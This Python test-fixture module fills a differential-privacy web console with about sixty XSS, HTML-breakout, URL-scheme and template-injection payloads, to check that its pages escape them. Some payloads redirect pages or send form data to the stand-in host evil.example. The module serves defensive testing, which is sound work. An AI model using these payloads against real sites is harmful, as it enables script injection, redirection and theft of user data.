"""Texts that would run, or make something, in a page that took them for marks; and a console that is full of them."""

from __future__ import annotations

import csv
import json
from contextlib import suppress
from dataclasses import dataclass
from pathlib import Path

import discreet
from browser.console.place import Hand, Place
from console.house import PASSWORD
from discreet.console.pages.bundle_cache import FIELDS
from discreet.engines.memory import MemoryEngine
from discreet.errors import UsageError
from discreet.kernel.curator import Curator

#: Each makes an element <x-x>, an attribute data-x, or calls __xss, where its context is not escaped.
PAYLOADS = (
    "<x-x></x-x><img src=a onerror=__xss()>",
    "<x-x><svg onload=__xss()>",
    "<script>__xss()</script>",
    "</script><script>__xss()</script>",
    "</title><x-x><script>__xss()</script>",
    "</textarea><x-x><img src=a onerror=__xss()>",
    "</style><x-x><script>__xss()</script>",
    "</option></select><x-x><img src=a onerror=__xss()>",
    "</code></pre><x-x><svg/onload=__xss()>",
    "</table><x-x><iframe src=javascript:__xss()>",
    "--><x-x><img src=a onerror=__xss()>",
    "<!--><x-x><img src=a onerror=__xss()>-->",
    "<![CDATA[<x-x>]]><img src=a onerror=__xss()>",
    '"><x-x><img src=a onerror=__xss()>',
    "'><x-x><img src=a onerror=__xss()>",
    '" data-x onmouseover=__xss() autofocus onfocus=__xss() x="',
    "' data-x onmouseover=__xss() autofocus onfocus=__xss() x='",
    " data-x onfocus=__xss() autofocus tabindex=1",
    "`><x-x onclick=__xss()>",
    "javascript:__xss()",
    "JaVaScRiPt:__xss()//",
    "java\tscript:__xss()",
    "data:text/html,<script>__xss()</script>",
    "vbscript:__xss()",
    "//evil.example/x",
    "https://evil.example/?x=<x-x>",
    "\\\\evil.example\\x",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<x-x style=position:fixed>",
    "<style>*{display:none}</style>",
    "<a data-x href=javascript:__xss()>go</a>",
    "<form data-x action=//evil.example><input name=csrf>",
    "<button data-x formaction=//evil.example>Ask</button>",
    "<input data-x onfocus=__xss() autofocus>",
    "<details data-x open ontoggle=__xss()>",
    "<video data-x src=a onerror=__xss()></video>",
    "<audio data-x src=a onerror=__xss()>",
    "<object data-x data=javascript:__xss()>",
    "<embed data-x src=javascript:__xss()>",
    "<iframe data-x srcdoc='<script>parent.__xss()</script>'>",
    "<math><mi data-x xlink:href=javascript:__xss()>x",
    "<svg><x-x><script href=data:,__xss() /></svg>",
    "<svg><animate data-x onbegin=__xss() attributeName=x>",
    "<svg><style><img src=a onerror=__xss()></style>",
    '<noscript><p title="</noscript><x-x onclick=__xss()>">',
    "<template><x-x></template><x-x>",
    "<marquee data-x onstart=__xss()>",
    "<body data-x onload=__xss()>",
    "<p id=main data-x><p id=jump-to>",
    "<form id=ask data-x><input name=sql>",
    "{{ 7*7 }}{% raw %}<x-x>",
    "{{ ''.__class__.__mro__ }}${7*7}<%= 7 %>",
    "#{__xss()}`${__xss()}`",
    "';__xss();//\";__xss();//",
    "</text></svg><x-x><img src=a onerror=__xss()>",
    "&lt;x-x&gt;&#60;img src=a onerror=__xss()&#62;",
    "%3Cx-x%3E%3Cimg%20src=a%20onerror=__xss()%3E",
    "＜x-x＞<\u2028img src=a onerror=__xss()>",
)
#: Those that stand in one line of readable text; with other letters they are refused there.
READABLE = tuple(text for text in PAYLOADS if text.isprintable())
LINE = " ".join(READABLE)
#: The private table's name and its people's: such as stand in an address.
TABLE, POPULATION = '"><x-x><img src=a onerror=__xss()>', PAYLOADS[0]


def quoted(name: str) -> str:
    """A name in SQL."""
    return '"' + name.replace('"', '""') + '"'


def project(folder: Path) -> Path:
    """Tables, columns, values and people's names, all of them payloads."""
    folder.mkdir(parents=True)
    names = [text for text in PAYLOADS if text != TABLE]
    with (folder / "private.csv").open("w", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["id", "word", *names])
        writer.writerows([n, PAYLOADS[n % len(PAYLOADS)], *["true"] * len(names)] for n in range(300))
    (folder / "public.csv").write_text("word\n1\n")
    discreet.init(folder)
    lines = [
        "[project]",
        'ledger = "sqlite:///.discreet/ledger.db"',
        f"[populations.{_toml(POPULATION)}]",
        "budget = { epsilon = 100, delta = 1e-6 }",
        f"[tables.{_toml(TABLE)}]",
        'source = "private.csv"',
        f"population = {_toml(POPULATION)}",
        'person = "id"',
        "rows_per_person = 1",
        f"[tables.{_toml(TABLE)}.columns.word]",
        'type = "category"',
        f"values = [{', '.join(map(_toml, PAYLOADS))}]",
    ]
    for name in names:
        lines += [f"[tables.{_toml(TABLE)}.columns.{_toml(name)}]", 'type = "boolean"']
        lines += [f"[tables.{_toml(name)}]", 'source = "public.csv"', "public = true"]
        lines += [f"[tables.{_toml(name)}.columns.word]", 'type = "integer"', "low = 0", "high = 9"]
    (folder / "discreet.toml").write_text("\n".join(lines) + "\n")
    _declare(folder)
    return folder


def _declare(folder: Path) -> None:
    """By the engine that makes a small table of many columns quickly: DuckDB takes 14 CPU seconds for this one."""
    made = discreet.open(folder)
    made.__dict__["curator"] = Curator(
        ledger=made.ledger, engine=MemoryEngine(), folder=folder / ".discreet" / "tables"
    )
    made.version(TABLE)


def _toml(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)


@dataclass(frozen=True, slots=True, kw_only=True)
class Filled:
    """What was made, and how many of the payloads each kind of name took."""

    counts: str
    aliased: str
    marginals: str
    tables: str
    model: str
    surveys: tuple[str, ...]
    people: int
    tokens: int


def fill(place: Place) -> Filled:
    """Every text that somebody may leave here."""
    people = place.house.people
    named = [person for text in PAYLOADS if (person := _person(people, text)) is not None]
    with place.hand("owner") as owner:
        counts = owner.ask(
            f"SELECT word, count(*) AS {quoted(TABLE)} FROM {quoted(TABLE)} GROUP BY word\n-- {LINE}", epsilon="2"
        )
        aliases = ", ".join(f"count(*) AS {quoted(text)}" for text in PAYLOADS)
        where = "'" + PAYLOADS[0].replace("'", "''") + "'"
        aliased = owner.ask(f"SELECT {aliases} FROM {quoted(TABLE)} WHERE word <> {where}", epsilon="1")
        tokens = sum(_token(people, text) for text in PAYLOADS)
        fields = dict.fromkeys(FIELDS, LINE[:1_500]) | {"publication_date": ""}
        owner.send(f"/r/{counts}/publish", **{**fields, "sources": LINE[-1_500:], "justification": LINE[-1_500:]})
        for number, person in enumerate(named, start=1):
            people.requests.ask(person, table=TABLE, epsilon="1", why=PAYLOADS[number % len(PAYLOADS)])
            if number > 5:
                people.requests.decline(number, by=person, word=PAYLOADS[-number % len(PAYLOADS)])
        return Filled(
            counts=counts,
            aliased=aliased,
            marginals=_last(
                owner.done("/tables/new/marginals", table=TABLE, columns=["word", PAYLOADS[0]], epsilon="2")
            ),
            tables=_last(owner.done("/tables/new/publish", plan=_plan(), epsilon="5", act="pay")),
            model=_last(
                owner.done("/synth/new", table=TABLE, model="independent", columns=["word", PAYLOADS[0]], epsilon="2")
            ),
            surveys=tuple(_surveys(owner)),
            people=len(named),
            tokens=tokens,
        )


def _person(people, text):
    with suppress(UsageError):
        return people.add(text, role="analyst", password=PASSWORD, analyst=text)


def _token(people, text):
    with suppress(UsageError):
        return bool(people.tokens.make(people.roster.get("olga"), label=text))
    return False


def _plan() -> str:
    return f"""table = {_toml(TABLE)}
attributes = [{_toml(PAYLOADS[0])}]
[hierarchy]
columns = ["word"]
root = "all"
"""


def _surveys(owner: Hand) -> list[str]:
    """One with all of them as choices, and one for each as its question; what takes no such text is left out."""
    made = [
        owner.send(
            "/survey/new",
            question=LINE[:1_500],
            asker=LINE[:120],
            kind="choices",
            choices="\n".join(READABLE),
            epsilon="2",
        )
    ]
    for text in PAYLOADS:
        sent = owner.client.post(
            "/survey/new",
            data={**owner.form, "question": text, "asker": text[:120], "choices": "a\nb", "epsilon": "1"},
            headers=owner.headers,
        )
        made += [sent.headers["location"]] if sent.status_code == 303 else []
    return [_last(to) for to in made]


def _last(to: str) -> str:
    return to.partition("#")[0].rpartition("/")[2]
